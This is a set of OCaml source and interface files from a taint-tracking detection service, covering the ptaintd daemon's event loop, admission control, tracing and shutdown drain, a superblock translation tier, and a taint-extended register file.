  go 64

(* The daemon side of a cross-process timeline: every completed job
   as a Chrome complete-span on pid 2 (clients use pid 1), one track
   per worker domain, timestamped in absolute epoch microseconds so a
   client trace of the same jobs merges without realignment. *)
let write_trace t =
  match t.cfg.trace_path with
  | None -> ()
  | Some path ->
    let tr = Ptaint_obs.Chrome.create () in
    List.iter
      (fun ji ->
        let args =
          [ ("outcome", ji.ji_outcome);
            ("cache_hit", if ji.ji_cache_hit then "true" else "false") ]
          @ (match ji.ji_trace with
             | None -> []
             | Some (tid, span) ->
               [ ("trace", Log.hex_id tid); ("span", string_of_int span) ])
        in
        Ptaint_obs.Chrome.complete tr ~name:ji.ji_tag ~cat:"daemon" ~pid:2
          ~tid:ji.ji_domain ~ts_us:(ji.ji_t0 *. 1e6)
          ~dur_us:((ji.ji_t1 -. ji.ji_t0) *. 1e6) ~args ())
      (List.rev t.spans);
    if t.spans_dropped > 0 then
      lwarn t "trace spans dropped"
        [ Log.int "dropped" t.spans_dropped; Log.int "kept" t.spans_count ];
    Ptaint_obs.Chrome.write_file tr path

let serve t =
  let listening = ref true in
  let finished = ref false in
  while not !finished do
    if Atomic.get t.stopping && !listening then begin
      listening := false;
      (try Unix.close t.listen_fd with Unix.Unix_error _ -> ());
      (try Unix.unlink t.cfg.socket_path with Unix.Unix_error _ -> ());
      linfo t "draining" [ Log.int "inflight" t.admitted ]
    end;
    if Atomic.get t.stopping && drained t then finished := true
    else begin
      let sup_fds =
        match backend_exn t with Isolated sup -> Supervisor.fds sup | In_process _ -> []
      in
      let reads =
        t.wake_rd
        :: (if !listening then [ t.listen_fd ] else [])
        @ (match t.metrics_fd with Some fd when !listening -> [ fd ] | _ -> [])
        @ sup_fds
        @ Hashtbl.fold (fun _ c acc -> if c.broken then acc else c.fd :: acc) t.conns []
      in
      let writes =
        Hashtbl.fold
          (fun _ c acc ->
            if Buffer.length c.outq - c.out_off > 0 || c.close_after_flush then c.fd :: acc
            else acc)
          t.conns []
      in
      let readable, writable, _ =
        try Unix.select reads writes [] 0.5
        with Unix.Unix_error (Unix.EINTR, _, _) -> ([], [], [])
      in
      (* Lag = time the loop spends away from [select] this
         iteration; the histogram is what a stall (oversized batch,
         slow client, scrape burst) shows up in. *)
      let work_t0 = Unix.gettimeofday () in
      if List.mem t.wake_rd readable then drain_wakeups t;
      (match backend_exn t with
       | Isolated sup ->
         List.iter
           (fun fd ->
             if Supervisor.owns sup fd then Supervisor.handle_readable sup fd)
           readable;
         Supervisor.tick sup ~now:work_t0
       | In_process _ -> ());
      drain_completions t;
      if !listening && List.mem t.listen_fd readable then accept_new t;
      (match t.metrics_fd with
       | Some fd when !listening && List.mem fd readable -> serve_metrics_scrapes t fd
       | _ -> ());
      let conn_of fd =
        Hashtbl.fold (fun _ c acc -> if c.fd = fd then Some c else acc) t.conns None
      in
      List.iter
        (fun fd ->
          if fd <> t.wake_rd && (not !listening || fd <> t.listen_fd)
             && not (List.mem fd sup_fds)
          then
            match conn_of fd with
            | Some c -> handle_readable t c
            | None -> ())
        readable;
      List.iter
        (fun fd -> match conn_of fd with Some c -> handle_writable t c | None -> ())
        writable;
      (* close_after_flush conns whose outbox emptied without a write
         event this round (e.g. Quit on an already-flushed conn) *)
      let flushed =
        Hashtbl.fold
          (fun _ c acc ->
            if c.close_after_flush && Buffer.length c.outq - c.out_off = 0 then c :: acc
            else acc)
          t.conns []
      in
      List.iter (fun c -> disconnect t c) flushed;
      mobserve t "ptaintd_loop_lag_us" ((Unix.gettimeofday () -. work_t0) *. 1e6)
    end
  done;
  Hashtbl.iter (fun _ c -> final_flush c) t.conns;
  Hashtbl.iter (fun _ c -> try Unix.close c.fd with Unix.Unix_error _ -> ()) t.conns;
  Hashtbl.reset t.conns;
  (match backend_exn t with
   | In_process pool -> Ptaint_pool.Pool.stop pool
   | Isolated sup -> Supervisor.stop sup);
  (match t.metrics_fd with
   | Some fd ->
     (try Unix.close fd with Unix.Unix_error _ -> ());
     (match t.cfg.metrics_sock with
      | Some p -> (try Unix.unlink p with Unix.Unix_error _ -> ())
      | None -> ())
   | None -> ());
  write_trace t;
  (try Unix.close t.wake_rd with Unix.Unix_error _ -> ());
  (try Unix.close t.wake_wr with Unix.Unix_error _ -> ());
  linfo t "drained, goodbye" [ Log.int "jobs" t.jobs_completed ];
  (match t.cfg.log with Some l -> Log.flush l | None -> ())

let stats t = daemon_counters t
let prometheus t = scrape t

let worker_pids t =
  match backend_exn t with
  | In_process _ -> []
  | Isolated sup -> Supervisor.pids sup
