(* ptaintd server: a single-threaded event loop over a Unix-domain
   socket, scheduling detection jobs onto a persistent Pool.service of
   worker domains.

   Concurrency discipline — three worlds, narrow bridges:

   - The EVENT LOOP owns every connection (buffers, admission
     counters, the listen socket).  It never blocks: [select] with
     non-blocking fds, partial reads accumulated per connection until
     {!Proto} yields a frame.
   - WORKER DOMAINS own job execution.  A worker touches only the
     image cache (internally locked) and the completion queue; it
     never sees a file descriptor.
   - The COMPLETION QUEUE (mutex + self-pipe) is the only bridge
     back: workers push ready-to-send responses, write one byte into
     the self-pipe, and the loop drains both on wakeup.  If the
     client vanished mid-job the response is dropped on the floor —
     job accounting lives in the queue entries, not the connection,
     so a mid-job disconnect can never wedge the drain logic.

   Hostile clients are a protocol concern, not a scheduling one: a
   half-frame slowloris just sits in its buffer, an oversized or
   garbled frame earns an [Error_frame] and a close (length-prefixed
   framing cannot resynchronise), and admission control (global queue
   bound + per-client inflight quota) answers [Rejected] instead of
   queueing unboundedly.  SIGTERM-driven shutdown is a drain: stop
   accepting, reject new submissions, finish everything in flight,
   flush every outbox, then return. *)

module Campaign = Ptaint_campaign.Campaign
module Job = Ptaint_campaign.Job

type config = {
  socket_path : string;
  domains : int option;
  max_queue : int;  (** jobs admitted but not yet finished, server-wide *)
  max_inflight : int;  (** per-connection admission quota *)
  cache_capacity : int;
  job_timeout : float option;  (** default watchdog; a job's own wins *)
  banner : string;
  log : (string -> unit) option;
}

let default_config ~socket_path =
  { socket_path; domains = None; max_queue = 256; max_inflight = 32;
    cache_capacity = 64; job_timeout = None; banner = "ptaintd"; log = None }

type conn = {
  fd : Unix.file_descr;
  cid : int;
  inbuf : Buffer.t;
  outq : Buffer.t;
  mutable out_off : int;  (* bytes of [outq] already written *)
  mutable inflight : int;
  mutable close_after_flush : bool;
      (* Quit, or a protocol error: flush the outbox, then hang up *)
  mutable broken : bool;  (* stop parsing input; stream unsalvageable *)
}

type completion = {
  c_cid : int;
  c_resp : Proto.response;
  c_terminal : bool;  (* finishes one admitted job *)
}

type t = {
  cfg : config;
  listen_fd : Unix.file_descr;
  wake_rd : Unix.file_descr;
  wake_wr : Unix.file_descr;
  pool : Ptaint_pool.Pool.service;
  cache : Cache.t;
  conns : (int, conn) Hashtbl.t;
  mutable next_cid : int;
  mutable next_job : int;
  mutable admitted : int;  (* queued + running, server-wide *)
  stopping : bool Atomic.t;
  cq_mu : Mutex.t;
  cq : completion Queue.t;
  (* daemon-level counters, loop-owned *)
  mutable jobs_submitted : int;
  mutable jobs_rejected : int;
  mutable jobs_completed : int;
  mutable protocol_errors : int;
  mutable clients_total : int;
  scratch : Bytes.t;  (* loop-owned read buffer *)
}

let logf t fmt =
  Printf.ksprintf (fun s -> match t.cfg.log with Some f -> f s | None -> ()) fmt

let create (cfg : config) =
  (match Unix.lstat cfg.socket_path with
   | { Unix.st_kind = Unix.S_SOCK; _ } -> Unix.unlink cfg.socket_path
   | _ -> invalid_arg ("ptaintd: refusing to replace non-socket " ^ cfg.socket_path)
   | exception Unix.Unix_error (Unix.ENOENT, _, _) -> ());
  let listen_fd = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
  Unix.set_nonblock listen_fd;
  Unix.bind listen_fd (Unix.ADDR_UNIX cfg.socket_path);
  Unix.listen listen_fd 64;
  let wake_rd, wake_wr = Unix.pipe () in
  Unix.set_nonblock wake_rd;
  { cfg;
    listen_fd;
    wake_rd;
    wake_wr;
    pool = Ptaint_pool.Pool.service ?domains:cfg.domains ();
    cache = Cache.create ~capacity:cfg.cache_capacity ();
    conns = Hashtbl.create 16;
    next_cid = 1;
    next_job = 1;
    admitted = 0;
    stopping = Atomic.make false;
    cq_mu = Mutex.create ();
    cq = Queue.create ();
    jobs_submitted = 0;
    jobs_rejected = 0;
    jobs_completed = 0;
    protocol_errors = 0;
    clients_total = 0;
    scratch = Bytes.create 65536 }

let wake t =
  (* best effort: a full pipe already guarantees a wakeup *)
  try ignore (Unix.write t.wake_wr (Bytes.make 1 '!') 0 1) with Unix.Unix_error _ -> ()

let shutdown t =
  Atomic.set t.stopping true;
  wake t

(* --- completion bridge (worker side) --------------------------------- *)

let push_completion t c =
  Mutex.lock t.cq_mu;
  Queue.push c t.cq;
  Mutex.unlock t.cq_mu;
  wake t

let max_event_stdout = 1 lsl 20

let truncate_stdout s =
  if String.length s <= max_event_stdout then s
  else String.sub s 0 max_event_stdout ^ "\n[stdout truncated by ptaintd]\n"

let exit_code_of (o : Ptaint_sim.Sim.outcome) =
  match o with
  | Ptaint_sim.Sim.Exited c -> c land 0xff
  | Ptaint_sim.Sim.Alert _ -> 3
  | Ptaint_sim.Sim.Fault _ | Ptaint_sim.Sim.Trap _ | Ptaint_sim.Sim.Out_of_fuel -> 4

let event_of_result ~id ~tag ~cache_hit (r : Campaign.job_result) =
  let counters = Campaign.job_counters r in
  match r.Campaign.status with
  | Campaign.Finished res ->
    Proto.Finished
      { id; tag;
        outcome = Format.asprintf "%a" Ptaint_sim.Sim.pp_outcome res.Ptaint_sim.Sim.outcome;
        exit_code = exit_code_of res.Ptaint_sim.Sim.outcome;
        instructions = res.Ptaint_sim.Sim.instructions;
        syscalls = res.Ptaint_sim.Sim.syscalls;
        policy_label = r.Campaign.policy_label;
        cache_hit;
        counters;
        stdout = truncate_stdout res.Ptaint_sim.Sim.stdout }
  | Campaign.Failed f ->
    Proto.Job_failed
      { id; tag;
        kind = Campaign.kind_name f.Campaign.kind;
        message = f.Campaign.exn;
        policy_label = r.Campaign.policy_label;
        counters }

(* Runs on a worker domain.  Every path pushes exactly one terminal
   completion — that invariant is what lets the loop's drain logic
   count jobs instead of trusting connections. *)
let run_job_task t ~cid ~id (spec : Job.t) () =
  push_completion t
    { c_cid = cid; c_resp = Proto.Job_event (Proto.Started { id }); c_terminal = false };
  let result =
    match
      (* Build-or-hit outside the classification net is wrong: a
         malformed source must fail the job, not the worker.  So the
         cache consult itself is guarded; on a toolchain error we fall
         through to a bare run whose rebuild fails identically and is
         classified ([Loader_error]) by the campaign machinery. *)
      match Cache.obtain t.cache spec with
      | entry, hit -> `Cached (entry, hit)
      | exception _ -> `Build_failed
    with
    | `Cached (entry, hit) ->
      let run_sim ~deadline config _program =
        Ptaint_sim.Sim.run_template ?deadline ~config entry.Cache.template
      in
      (Campaign.run_job ?job_timeout:t.cfg.job_timeout ~run_sim
         ~program:entry.Cache.program spec, hit)
    | `Build_failed ->
      (Campaign.run_job ?job_timeout:t.cfg.job_timeout spec, false)
  in
  let r, cache_hit = result in
  let resp =
    match event_of_result ~id ~tag:spec.Job.tag ~cache_hit r with
    | ev -> Proto.Job_event ev
    | exception _ ->
      Proto.Job_event
        (Proto.Job_failed
           { id; tag = spec.Job.tag; kind = "crashed";
             message = "ptaintd: failed to serialize job result";
             policy_label = Campaign.label_of_policy spec.Job.config.Ptaint_sim.Sim.policy;
             counters = [ ("jobs", 1); ("crashed", 1) ] })
  in
  push_completion t { c_cid = cid; c_resp = resp; c_terminal = true }

(* --- event loop (connection side) ------------------------------------ *)

let send conn resp = Buffer.add_string conn.outq (Proto.encode_response resp)

let disconnect t conn =
  Hashtbl.remove t.conns conn.cid;
  (try Unix.close conn.fd with Unix.Unix_error _ -> ())

let reject t conn ~tag reason =
  t.jobs_rejected <- t.jobs_rejected + 1;
  send conn (Proto.Rejected { tag; reason })

let daemon_counters t =
  Cache.counters t.cache
  @ [ ("daemon/jobs-submitted", t.jobs_submitted);
      ("daemon/jobs-completed", t.jobs_completed);
      ("daemon/jobs-rejected", t.jobs_rejected);
      ("daemon/jobs-inflight", t.admitted);
      ("daemon/protocol-errors", t.protocol_errors);
      ("daemon/clients-now", Hashtbl.length t.conns);
      ("daemon/clients-total", t.clients_total);
      ("daemon/workers", Ptaint_pool.Pool.service_size t.pool) ]

let handle_request t conn = function
  | Proto.Hello _ ->
    send conn
      (Proto.Hello_ok { server_version = Proto.version; banner = t.cfg.banner })
  | Proto.Ping payload -> send conn (Proto.Pong payload)
  | Proto.Stats -> send conn (Proto.Stats_ok (daemon_counters t))
  | Proto.Quit -> conn.close_after_flush <- true
  | Proto.Submit spec ->
    let tag = spec.Proto.spec_tag in
    if Atomic.get t.stopping then reject t conn ~tag "server is draining"
    else if t.admitted >= t.cfg.max_queue then
      reject t conn ~tag
        (Printf.sprintf "queue full (%d jobs in flight)" t.admitted)
    else if conn.inflight >= t.cfg.max_inflight then
      reject t conn ~tag
        (Printf.sprintf "client quota exceeded (%d jobs in flight)" conn.inflight)
    else (
      match Proto.job_of_spec spec with
      | Error m -> reject t conn ~tag m
      | Ok job ->
        let id = t.next_job in
        t.next_job <- t.next_job + 1;
        t.jobs_submitted <- t.jobs_submitted + 1;
        t.admitted <- t.admitted + 1;
        conn.inflight <- conn.inflight + 1;
        send conn (Proto.Accepted { id; tag });
        Ptaint_pool.Pool.post t.pool (run_job_task t ~cid:conn.cid ~id job))

let protocol_failure t conn err =
  t.protocol_errors <- t.protocol_errors + 1;
  logf t "client %d: protocol error: %s" conn.cid (Proto.error_message err);
  send conn (Proto.Error_frame (Proto.error_message err));
  conn.broken <- true;
  conn.close_after_flush <- true

(* Parse as many whole frames as the buffer holds.  The buffer is
   rebuilt rather than shifted; frames are small relative to the 16 MiB
   cap, so the copy is noise. *)
let drain_inbuf t conn =
  let rec go () =
    if conn.broken then ()
    else
      let buf = Buffer.contents conn.inbuf in
      match Proto.decode_request buf with
      | Ok None -> ()
      | Ok (Some (req, consumed)) ->
        Buffer.clear conn.inbuf;
        Buffer.add_substring conn.inbuf buf consumed (String.length buf - consumed);
        handle_request t conn req;
        go ()
      | Error err -> protocol_failure t conn err
  in
  go ()

let handle_readable t conn =
  match Unix.read conn.fd t.scratch 0 (Bytes.length t.scratch) with
  | 0 -> disconnect t conn  (* EOF; any jobs in flight finish into the void *)
  | n ->
    Buffer.add_subbytes conn.inbuf t.scratch 0 n;
    drain_inbuf t conn
  | exception Unix.Unix_error ((Unix.EAGAIN | Unix.EWOULDBLOCK | Unix.EINTR), _, _) -> ()
  | exception Unix.Unix_error _ -> disconnect t conn

let handle_writable t conn =
  let pending = Buffer.length conn.outq - conn.out_off in
  if pending > 0 then begin
    let chunk = Buffer.to_bytes conn.outq in
    match Unix.write conn.fd chunk conn.out_off pending with
    | n ->
      conn.out_off <- conn.out_off + n;
      if conn.out_off = Buffer.length conn.outq then begin
        Buffer.clear conn.outq;
        conn.out_off <- 0
      end
    | exception Unix.Unix_error ((Unix.EAGAIN | Unix.EWOULDBLOCK | Unix.EINTR), _, _) -> ()
    | exception Unix.Unix_error _ -> disconnect t conn
  end;
  if Hashtbl.mem t.conns conn.cid && conn.close_after_flush
     && Buffer.length conn.outq - conn.out_off = 0
  then disconnect t conn

let accept_new t =
  let rec go () =
    match Unix.accept t.listen_fd with
    | fd, _ ->
      Unix.set_nonblock fd;
      let cid = t.next_cid in
      t.next_cid <- t.next_cid + 1;
      t.clients_total <- t.clients_total + 1;
      Hashtbl.replace t.conns cid
        { fd; cid; inbuf = Buffer.create 256; outq = Buffer.create 256;
          out_off = 0; inflight = 0; close_after_flush = false; broken = false };
      logf t "client %d connected" cid;
      go ()
    | exception Unix.Unix_error ((Unix.EAGAIN | Unix.EWOULDBLOCK | Unix.EINTR), _, _) -> ()
  in
  go ()

let drain_completions t =
  let batch =
    Mutex.lock t.cq_mu;
    let xs = Queue.fold (fun acc c -> c :: acc) [] t.cq in
    Queue.clear t.cq;
    Mutex.unlock t.cq_mu;
    List.rev xs
  in
  List.iter
    (fun c ->
      if c.c_terminal then begin
        t.admitted <- t.admitted - 1;
        t.jobs_completed <- t.jobs_completed + 1
      end;
      match Hashtbl.find_opt t.conns c.c_cid with
      | None -> ()  (* client gone mid-job: result dropped, accounting kept *)
      | Some conn ->
        if c.c_terminal then conn.inflight <- conn.inflight - 1;
        send conn c.c_resp)
    batch

let drain_wakeups t =
  let b = Bytes.create 256 in
  let rec go () =
    match Unix.read t.wake_rd b 0 256 with
    | n when n > 0 -> go ()
    | _ -> ()
    | exception Unix.Unix_error ((Unix.EAGAIN | Unix.EWOULDBLOCK | Unix.EINTR), _, _) -> ()
  in
  go ()

(* All admitted jobs finished and every completion routed to an
   outbox.  Outboxes themselves are flushed best-effort on exit: a
   client that stops reading must not be able to wedge shutdown. *)
let drained t =
  t.admitted = 0 && Mutex.protect t.cq_mu (fun () -> Queue.is_empty t.cq)

let final_flush conn =
  let pending () = Buffer.length conn.outq - conn.out_off in
  let chunk = Buffer.to_bytes conn.outq in
  let rec go budget =
    if budget > 0 && pending () > 0 then
      match Unix.write conn.fd chunk conn.out_off (pending ()) with
      | n -> conn.out_off <- conn.out_off + n; go (budget - 1)
      | exception Unix.Unix_error _ -> ()
  in
  go 64

let serve t =
  let listening = ref true in
  let finished = ref false in
  while not !finished do
    if Atomic.get t.stopping && !listening then begin
      listening := false;
      (try Unix.close t.listen_fd with Unix.Unix_error _ -> ());
      (try Unix.unlink t.cfg.socket_path with Unix.Unix_error _ -> ());
      logf t "draining: %d jobs in flight" t.admitted
    end;
    if Atomic.get t.stopping && drained t then finished := true
    else begin
      let reads =
        t.wake_rd
        :: (if !listening then [ t.listen_fd ] else [])
        @ Hashtbl.fold (fun _ c acc -> if c.broken then acc else c.fd :: acc) t.conns []
      in
      let writes =
        Hashtbl.fold
          (fun _ c acc ->
            if Buffer.length c.outq - c.out_off > 0 || c.close_after_flush then c.fd :: acc
            else acc)
          t.conns []
      in
      let readable, writable, _ =
        try Unix.select reads writes [] 0.5
        with Unix.Unix_error (Unix.EINTR, _, _) -> ([], [], [])
      in
      if List.mem t.wake_rd readable then drain_wakeups t;
      drain_completions t;
      if !listening && List.mem t.listen_fd readable then accept_new t;
      let conn_of fd =
        Hashtbl.fold (fun _ c acc -> if c.fd = fd then Some c else acc) t.conns None
      in
      List.iter
        (fun fd ->
          if fd <> t.wake_rd && (not !listening || fd <> t.listen_fd) then
            match conn_of fd with
            | Some c -> handle_readable t c
            | None -> ())
        readable;
      List.iter
        (fun fd -> match conn_of fd with Some c -> handle_writable t c | None -> ())
        writable;
      (* close_after_flush conns whose outbox emptied without a write
         event this round (e.g. Quit on an already-flushed conn) *)
      let flushed =
        Hashtbl.fold
          (fun _ c acc ->
            if c.close_after_flush && Buffer.length c.outq - c.out_off = 0 then c :: acc
            else acc)
          t.conns []
      in
      List.iter (fun c -> disconnect t c) flushed
    end
  done;
  Hashtbl.iter (fun _ c -> final_flush c) t.conns;
  Hashtbl.iter (fun _ c -> try Unix.close c.fd with Unix.Unix_error _ -> ()) t.conns;
  Hashtbl.reset t.conns;
  Ptaint_pool.Pool.stop t.pool;
  (try Unix.close t.wake_rd with Unix.Unix_error _ -> ());
  (try Unix.close t.wake_wr with Unix.Unix_error _ -> ());
  logf t "drained, goodbye"

let stats t = daemon_counters t
