(** ptaintd: the persistent detection service.

    A single-threaded [select] event loop owns a Unix-domain listen
    socket and every client connection; detection jobs are admitted
    through per-client and server-wide bounds, scheduled onto a
    persistent {!Ptaint_pool.Pool.service} of worker domains, run
    through the campaign engine's containment machinery
    ({!Ptaint_campaign.Campaign.run_job}) with boots served from the
    shared image {!Cache}, and streamed back as
    {!Proto.response} frames ([Accepted], [Started],
    [Finished]/[Job_failed] with {!Ptaint_campaign.Campaign.job_counters}
    deltas).

    Two execution backends share that loop.  The default runs jobs on
    in-process worker domains (fast, shared cache).  With [isolate]
    set, jobs run in forked worker {e processes} under a
    {!Supervisor} tree instead: a crashing, wedged or SIGKILLed
    worker is contained, its job redelivered or synthesized into a
    typed failure, and the worker respawned with backoff — the daemon
    keeps serving throughout.

    Robustness properties, exercised by [test_daemon] and
    [test_supervisor]:
    - a malformed, oversized or truncated-forever frame costs that
      one client its connection ([Error_frame], close) and nothing
      else;
    - a client disconnecting mid-job never wedges accounting — its
      results are dropped, its jobs still count as completed;
    - {!shutdown} (the SIGTERM path) is a graceful drain: stop
      listening, reject new submissions, finish all admitted jobs,
      flush outboxes best-effort, return from {!serve};
    - under [isolate], killing a worker mid-campaign leaves the final
      batch counters byte-identical to an undisturbed run (bounded
      redelivery preserves results; only a twice-killed job turns
      into a typed [crashed]/[timeout] failure);
    - a [spec_idem]-keyed job resubmitted after a dropped connection
      runs at most once — the retry attaches to the live admission or
      replays the recorded terminal event;
    - a [spec_deadline] the queue cannot meet (duration histogram ×
      queue depth) is shed at admission with a typed [Rejected]. *)

type config = {
  socket_path : string;
  domains : int option;  (** worker domains; default {!Ptaint_pool.Pool.recommended_domains} *)
  max_queue : int;  (** server-wide bound on jobs admitted and unfinished *)
  max_inflight : int;  (** per-connection admission quota *)
  cache_capacity : int;  (** image cache entries *)
  job_timeout : float option;
      (** default per-job watchdog (seconds); a job's own timeout wins *)
  banner : string;  (** echoed in [Hello_ok] *)
  log : Ptaint_obs.Log.t option;
      (** structured lifecycle log: connections, admissions,
          rejections, protocol errors, job completions (with trace
          correlation ids), drain progress *)
  metrics_sock : string option;
      (** when set, a second Unix-domain socket serving one-shot
          Prometheus scrapes: connect, read the text exposition, EOF *)
  trace_path : string option;
      (** when set, a Chrome trace of every completed job is written
          here at drain — spans on pid 2, one track per worker domain,
          absolute epoch-microsecond timestamps, so a client-side
          trace (pid 1) of the same jobs merges into one timeline *)
  isolate : bool;
      (** run jobs in forked worker processes under a supervision
          tree instead of in-process domains: crash containment,
          preemptive deadline enforcement, automatic respawn.
          Superblock telemetry is unavailable in this mode (the
          counters live in the worker's address space). *)
  workers : int option;  (** worker processes when [isolate]; default 2 *)
}

val default_config : socket_path:string -> config
(** max_queue 256, max_inflight 32, cache 64 entries, no default
    timeout, no log, no metrics socket, no trace, no isolation. *)

type t

val create : config -> t
(** Bind the socket (replacing a stale socket file; refusing to
    replace a non-socket), spawn the worker pool — or, under
    [isolate], fork the worker fleet (so call it before spawning any
    domain in this process).  Raises [Unix.Unix_error] on bind/listen
    failure. *)

val serve : t -> unit
(** Run the event loop until {!shutdown}.  Returns after the drain
    completes; the worker pool is stopped and every fd closed. *)

val shutdown : t -> unit
(** Request a graceful drain.  Safe from signal handlers and other
    domains; idempotent. *)

val stats : t -> (string * int) list
(** The daemon counter snapshot served to [Stats] requests (cache
    hits/misses, jobs submitted/completed/rejected/in flight, client
    counts).  Loop-owned state: call from the serving domain only —
    other processes should ask over the socket. *)

val prometheus : t -> string
(** The full telemetry snapshot served to [Stats_full] requests and
    the metrics socket: jobs by outcome, queue depth, per-client
    inflight, cache traffic, byte counters, event-loop lag and job
    latency histograms, in Prometheus text exposition format 0.0.4.
    Loop-owned state, same caveat as {!stats}. *)

val worker_pids : t -> int list
(** Live worker process pids under [isolate] (what a chaos harness
    SIGKILLs); [[]] for the in-process backend. *)
