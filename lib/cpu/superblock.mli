(** Superblock translation tier.

    Hot basic blocks (per-entry counters live on {!Block.t}) are
    compiled into one OCaml closure chain per block, built at
    promotion time from the pre-decoded opcode/field arrays, with two
    specialized variants selected at every block entry:

    - the {e clean} variant assumes both live-taint counters
      ({!Regfile.is_clean} and {!Ptaint_mem.Tagged_store.tainted_bytes})
      are zero and elides all mask computation, taint loads/stores and
      policy checks — registers are read and written as raw 32-bit
      values and memory through the [*_clean] accessors;
    - the {e full} variant has the policy constants baked into the
      closures (no handler-table dispatch, no [Tword] boxing), with a
      clean-operand fast path on the hot ALU opcodes.

    Superblocks chain across direct branches, fallthroughs and
    register-indirect jumps through patchable successor slots, so
    straight-line guest code and loops never return to the
    dispatcher.  Fuel is hoisted to a single whole-block check at
    entry; a block that does not fit the remaining fuel exits with
    {!ev_fuel} and the driver interprets the partial block, keeping
    [Sim.run_until] / fault-injection slicing icount-exact.

    Every call in a chain is an OCaml tail call, so the stack stays
    flat: an event site writes its description into the {!env} fields
    and returns, landing control directly back in the driver.  The
    only exception that crosses a chain is
    {!Ptaint_mem.Tagged_store.Unmapped}; memory closures park their
    block-relative index in [e_rel] beforehand so the driver can
    attribute the fault. *)

(** Mutable execution context shared between the driver
    ({!Machine.run}) and the translated closures.  Concrete so the
    driver reads and writes fields without accessor calls. *)
type env = {
  e_rf : Regfile.t;
  e_regs : int array;  (** [Regfile.storage e_rf], cached *)
  e_ts : Ptaint_mem.Tagged_store.t;
  e_st : Ptaint_mem.Memory.stats;
  mutable e_fuel : int;      (** instructions the chain may still run *)
  mutable e_guards : (int * int) list;
  mutable e_has_guards : bool;
  mutable e_ev : int;        (** exit event code, see [ev_*] *)
  mutable e_rel : int;       (** block-relative index of the event site *)
  mutable e_a : int;         (** event operand (register / address / code) *)
  mutable e_b : int;         (** second event operand (address / width) *)
  mutable e_next_pc : int;   (** continuation pc for [ev_none] / fuel / traps *)
  mutable e_cur : int;       (** entry index of the block being run *)
  mutable e_blocks : int;    (** blocks entered during this chain run *)
  mutable e_cleans : int;    (** of which took the clean variant *)
  mutable e_deopts : int;    (** variant switches inside this chain run *)
  mutable e_mode : int;      (** last variant: -1 unknown, 0 clean, 1 full *)
}

(** A translated superblock.  All fields except the successor slots
    are immutable, so publishing one into the tier table with a plain
    store is safe across domains (a stale read falls back to the
    dispatcher). *)
type sb = {
  sb_pc : int;
  sb_idx : int;              (** entry instruction index *)
  sb_len : int;              (** body length including the terminator *)
  sb_go : env -> unit;
  sb_slots : slots;
}

(** Patchable successor links.  [s_taken] / [s_fall] are
    direct-threaded: seeded at translate time with a self-patching
    miss thunk that probes the tier table, overwrites the slot with
    the successor's [sb_go] on hit, and exits with {!ev_none} on miss
    — so a hot edge costs exactly one indirect call.  [s_jr] is a
    monomorphic cache for register-indirect jumps, validated by pc on
    every crossing (it keeps the whole [sb] record for that). *)
and slots = {
  mutable s_taken : env -> unit;
  mutable s_fall : env -> unit;
  mutable s_jr : sb;
}

val dummy : sb
(** The "untranslated / unlinked" sentinel filling fresh tier tables
    and slots.  [dummy.sb_pc = -1] never matches a jump target.
    Test with physical inequality: [sb != dummy]. *)

(** A per-(program, policy) translation table, shareable across every
    machine and domain executing the same decoded text — entries are
    published racily but idempotently. *)
type tier = {
  t_blocks : Block.t;
  t_policy : Policy.t;
  t_sbs : sb array;          (** indexed by entry index; [dummy] = none *)
}

(** {1 Exit event codes} *)

val ev_none : int      (** chain miss: continue (interpret) at [e_next_pc] *)
val ev_fuel : int      (** block longer than remaining fuel; pc at [e_next_pc] *)
val ev_syscall : int   (** terminator trap; [e_next_pc] past the terminator *)
val ev_break : int     (** like syscall; [e_a] = break code *)
val ev_jump_alert : int   (** tainted jr/jalr target; [e_a] = rs *)
val ev_load_alert : int   (** tainted load address; [e_a] = base reg, [e_b] = ea *)
val ev_store_alert : int  (** tainted store address; [e_a] = base reg, [e_b] = ea *)
val ev_guard_alert : int  (** tainted store into a guard; [e_a] = rt, [e_b] = ea *)
val ev_misalign : int     (** [e_a] = address, [e_b] = width *)
val ev_unmapped : int
(** Never set by translated code: the driver synthesizes it when
    {!Ptaint_mem.Tagged_store.Unmapped} escapes a chain. *)

val threshold : int
(** Dispatch count at which an entry index is promoted. *)

val make_env :
  rf:Regfile.t ->
  ts:Ptaint_mem.Tagged_store.t ->
  st:Ptaint_mem.Memory.stats ->
  env
(** One per machine; the register file, tagged store and stats record
    are cached for the machine's lifetime (all three are stable
    across arena resets). *)

val create_tier : Block.t -> Policy.t -> tier

val translate : tier -> int -> sb
(** [translate tier idx] compiles the block entered at instruction
    index [idx] — which must have an in-text terminator
    ([stops.(idx) < n]) — publishes it in the tier table and returns
    it.  Idempotent: racing translations of the same index produce
    equivalent superblocks. *)
