(** Taint-extended register file: 32 GPRs plus HI/LO, each byte of
    each register carrying a taintedness bit (section 4.2).
    Register 0 reads as untainted zero regardless of writes.

    Stored as one flat [int] array of packed {!Ptaint_taint.Tword}
    bits, so get/set/untaint never allocate. *)

type t

val create : unit -> t
val get : t -> Ptaint_isa.Reg.t -> Ptaint_taint.Tword.t
val set : t -> Ptaint_isa.Reg.t -> Ptaint_taint.Tword.t -> unit
val get_hi : t -> Ptaint_taint.Tword.t
val set_hi : t -> Ptaint_taint.Tword.t -> unit
val get_lo : t -> Ptaint_taint.Tword.t
val set_lo : t -> Ptaint_taint.Tword.t -> unit

val untaint : t -> Ptaint_isa.Reg.t -> unit
(** Clear the register's taint mask in place (compare-untaint rule). *)

val value : t -> Ptaint_isa.Reg.t -> int

val set_value : t -> Ptaint_isa.Reg.t -> int -> unit
(** Write an untainted 32-bit value — the clean fast path's register
    writeback.  Equivalent to [set t r (Tword.untainted v)]. *)

val tainted_count : t -> int
(** Number of slots (GPRs, HI, LO) currently carrying any taint.
    Derived from a live bitmap maintained by every mutator; [0] means
    the whole file is provably clean. *)

val is_clean : t -> bool
(** [tainted_count t = 0], as a single load-and-compare — the
    superblock tier's per-block variant-selection guard. *)

val tainted_registers : t -> Ptaint_isa.Reg.t list
val reset : t -> unit
val pp : Format.formatter -> t -> unit

(** {1 Architectural slots}

    The regfile holds more than the 32 GPRs; diagnostics that want
    "every register the file actually holds" (HI/LO included) iterate
    [0 .. slots-1] with these accessors instead of hard-coding 32. *)

val slots : int
(** Number of architectural slots: 32 GPRs + HI + LO = 34. *)

val slot : t -> int -> Ptaint_taint.Tword.t
(** Read slot [i]; slot 0 is the hardwired zero register, slots 32/33
    are HI/LO. *)

val slot_name : int -> string
